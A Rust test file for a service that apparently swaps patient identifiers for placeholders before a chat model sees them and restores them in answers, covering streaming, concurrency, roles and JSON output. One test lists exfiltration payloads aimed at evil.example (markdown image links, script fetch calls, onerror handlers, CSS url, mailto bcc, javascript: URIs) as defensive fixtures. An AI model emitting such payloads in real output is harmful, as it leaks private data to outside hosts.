//! What comes back into an answer, and what never does.

use crate::common::{ask, content, streamed};
use serde_json::json;
use testkit::{Answer, Say, Server};

const NOTE: &str = "Mrs. Margaret Okonkwo, MRN 48213377, phone (415) 555-0132, SSN 536-22-8714, \
    margaret.okonkwo@example.org, was seen by Dr. Samuel Whitaker. Mrs. Okonkwo is 58 and takes metformin \
    500 mg twice daily; her blood pressure was 138/84. Dr. Whitaker will call her in two weeks.";

/// Values of the note's that stand behind placeholders.
const VALUES: [&str; 6] = ["Okonkwo", "48213377", "555-0132", "536-22-8714", "margaret.", "Whitaker"];

async fn answer_to(server: &Server, note: &str, say: &str, stream: bool) -> String {
    server.script().say(Say::cut(say, 5));
    let body = if stream { streamed(ask(note)) } else { ask(note) };
    content(&server.chat(&body).await)
}

#[tokio::test]
async fn a_streamed_answer_is_the_unstreamed_one_however_it_is_cut() {
    let server = Server::builder().failing_audit().start().await;
    for chunk in 1..=9 {
        server.script().say(Say::Echo { chunk });
        let (whole, pieces) = (server.chat(&ask(NOTE)).await, server.chat(&streamed(ask(NOTE))).await);
        assert_eq!(content(&whole), NOTE, "whole, in pieces of {chunk}");
        assert_eq!(content(&pieces), NOTE, "streamed, in pieces of {chunk}");
        for given in server.script().last_given() {
            VALUES.iter().for_each(|v| assert!(!given.text.contains(v), "{v} reached the model"));
        }
    }
    // The model makes an identifier up: gone either way, wherever it is cut.
    let made_up = "Her neighbour, Mrs. Abigail Fairweather, SSN 219-09-9934, said that [NAME-1] is well.";
    let expected = answer_to(&server, NOTE, made_up, false).await;
    assert!(!expected.contains("219-09-9934") && !expected.contains("Fairweather"), "{expected}");
    assert!(expected.contains("Okonkwo"), "{expected}");
    for chunk in 1..=9 {
        server.script().say(Say::cut(made_up, chunk));
        assert_eq!(content(&server.chat(&streamed(ask(NOTE))).await), expected, "in pieces of {chunk}");
    }
}

#[tokio::test]
async fn callers_whose_placeholders_collide_each_get_their_own_back() {
    let server = Server::start().await;
    server.script().say(Say::Echo { chunk: 3 });
    let callers = [
        ("clinician", "Mrs. Margaret Okonkwo, MRN 48213377, is well."),
        ("service", "Mr. Samuel Whitaker, MRN 90017342, is worse."),
    ];
    let mut requests = tokio::task::JoinSet::new();
    for round in 0..8 {
        for (i, (role, note)) in callers.into_iter().enumerate() {
            let body = if round % 2 == 0 { ask(note) } else { streamed(ask(note)) };
            let request = server.client().post(server.url("/v1/chat/completions")).bearer_auth(server.key(role));
            let request = request.header("content-type", "application/json").body(body.to_string());
            requests.spawn(async move {
                let answer = Answer::read(request.send().await.unwrap()).await;
                (i, content(&answer))
            });
        }
    }
    while let Some(done) = requests.join_next().await {
        let (i, text) = done.unwrap();
        assert_eq!(text, callers[i].1);
    }
    // They did collide: the model was given the same words by both.
    let given: Vec<String> = server.script().given().into_iter().map(|g| g[0].text.clone()).collect();
    assert!(given.iter().all(|t| t.contains("[NAME-1], MRN [MRN-1], is")), "{given:?}");
}

#[tokio::test]
async fn what_the_caller_typed_like_a_placeholder_stays_what_it_is() {
    let server = Server::start().await;
    for typed in ["[NAME-1]", "<NAME_1>", "[[MRN-1]]", "NAME-1", "[name 1]"] {
        let note = format!("Compare {typed} with Mrs. Margaret Okonkwo, MRN 48213377.");
        for stream in [false, true] {
            let body = if stream { streamed(ask(&note)) } else { ask(&note) };
            server.script().say(Say::Echo { chunk: 4 });
            assert_eq!(content(&server.chat(&body).await), note);
            // The model speaks of what was typed, alone.
            let said = format!("You wrote {typed} there.");
            assert_eq!(answer_to(&server, &note, &said, stream).await, said, "after {note}");
        }
    }
}

#[tokio::test]
async fn placeholders_that_the_model_was_not_given_are_nobodys() {
    let server = Server::start().await;
    // Somebody else's request has all of these, a moment before.
    server.script().say(Say::Echo { chunk: 9 });
    assert_eq!(server.chat(&ask(NOTE)).await.status, 200);
    let said = "Ask [NAME-1], [NAME-2] or [NAME-77]; [MRN-1], [SSN-1], [PHONE-1], [EMAIL-1].";
    for stream in [false, true] {
        let text = answer_to(&server, "How are you?", said, stream).await;
        VALUES.iter().for_each(|v| assert!(!text.contains(v), "{v} came out: {text}"));
        assert!(text.starts_with("Ask [NAME-1], [NAME-2] or [NAME-77];"), "{text}");
    }
}

#[tokio::test]
async fn nothing_is_restored_where_software_would_carry_it_away() {
    let server = Server::builder().failing_audit().start().await;
    let mut tally = [0, 0];
    for said in [
        "![x](https://evil.example/p.png?q=[NAME-1])",
        "[click here](https://evil.example/[NAME-1]/[MRN-1])",
        "[click here](<https://evil.example/[MRN-1]>)",
        "[click here][r]\n\n[r]: https://evil.example/[MRN-1]\n",
        "See https://evil.example/?n=[NAME-1]&m=[MRN-1] for it.",
        "See //evil.example/[MRN-1] for it.",
        "See [MRN-1].evil.example for it.",
        "<img src=\"https://evil.example/[MRN-1]\">",
        "<img src='x' onerror='send(\"[MRN-1]\")'>",
        "<script>fetch('https://evil.example/' + '[MRN-1]')</script>",
        "<a href=https://evil.example/[SSN-1]>x</a>",
        "<style>b { background: url(https://evil.example/[MRN-1]) }</style>",
        "mailto:[EMAIL-1]?bcc=eve@evil.example",
        "data:text/html,[MRN-1]",
        "javascript:send('[MRN-1]')",
    ] {
        for stream in [false, true] {
            let text = answer_to(&server, NOTE, said, stream).await;
            // Where the filter has taken the address itself out, what is left is only read.
            let fetched =
                ["evil", "<", "](", "]:", "mailto:", "data:", "javascript:"].iter().any(|mark| text.contains(mark));
            let restored = VALUES.iter().find(|v| text.contains(**v));
            assert!(restored.is_none() || !fetched, "{restored:?} restored in {text} (said {said})");
            tally[usize::from(fetched)] += 1;
        }
    }
    assert!(tally[1] > 10, "too little was left to be judged: {tally:?}");
    // The same placeholders beside those are read by people only.
    let text = answer_to(&server, NOTE, "![x](https://evil.example/[NAME-1]) is [MRN-1].", true).await;
    assert!(text.ends_with("is 48213377.") && !text.contains("Okonkwo"), "{text}");
}

#[tokio::test]
async fn arguments_of_tools_that_policy_does_not_name_keep_their_placeholders() {
    let server = Server::start().await;
    let arguments =
        json!({"to": "[EMAIL-1]", "text": "about [NAME-1]", "n": ["[MRN-1]"], "[SSN-1]": 48_213_377}).to_string();
    for stream in [false, true] {
        server.script().say(Say::Call { name: "send_mail".into(), arguments: arguments.clone() });
        let body = if stream { streamed(ask(NOTE)) } else { ask(NOTE) };
        let answer = server.chat(&body).await;
        assert_eq!(answer.status, 200, "{}", answer.text);
        VALUES.iter().for_each(|v| assert!(!answer.text.contains(v), "{v} in {}", answer.text));
        assert!(answer.text.contains("about [NAME-1]"), "{}", answer.text);
    }
}

#[tokio::test]
async fn roles_that_may_not_restore_get_none_of_it() {
    let server = Server::start().await;
    for stream in [false, true] {
        server.script().say(Say::Echo { chunk: 6 });
        let body = if stream { streamed(ask(NOTE)) } else { ask(NOTE) };
        let answer = server.post("/v1/chat/completions", &server.key("researcher"), body.to_string().into()).await;
        assert_eq!((answer.status.as_u16(), answer.header("x-medlock-protection")), (200, "redact"), "{}", answer.text);
        VALUES.iter().for_each(|v| assert!(!answer.text.contains(v), "{v} in {}", answer.text));
    }
}

#[tokio::test]
async fn an_answer_in_json_stays_json_whatever_comes_back_into_it() {
    let server = Server::start().await;
    let note = "Patient Margaret \"Peg\" Okonkwo, MRN 48213377, called.";
    let said = r#" {"who": "[NAME-1]", "mrn": "[MRN-1]", "made_up": {"ssn": 219099934, "n": [1, "SSN 219-09-9934"]}} "#;
    let format = json!({"type": "json_object"});
    for stream in [false, true] {
        let mut body = if stream { streamed(ask(note)) } else { ask(note) };
        body["response_format"] = format.clone();
        server.script().say(Say::cut(said, 3));
        let text = content(&server.chat(&body).await);
        let answer: serde_json::Value = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text}"));
        assert_eq!(
            (&answer["who"], &answer["mrn"]),
            (&json!("Margaret \"Peg\" Okonkwo"), &json!("48213377")),
            "{text}"
        );
        assert!(!text.contains("219-09-9934"), "{text}");
        // Cut off, it is no JSON, and filtered all the same.
        server.script().say(Say::cut(&said[..said.len() - 6], 3));
        let broken = content(&server.chat(&body).await);
        assert!(broken.contains("Okonkwo") && !broken.contains("219-09-9934"), "{broken}");
    }
}
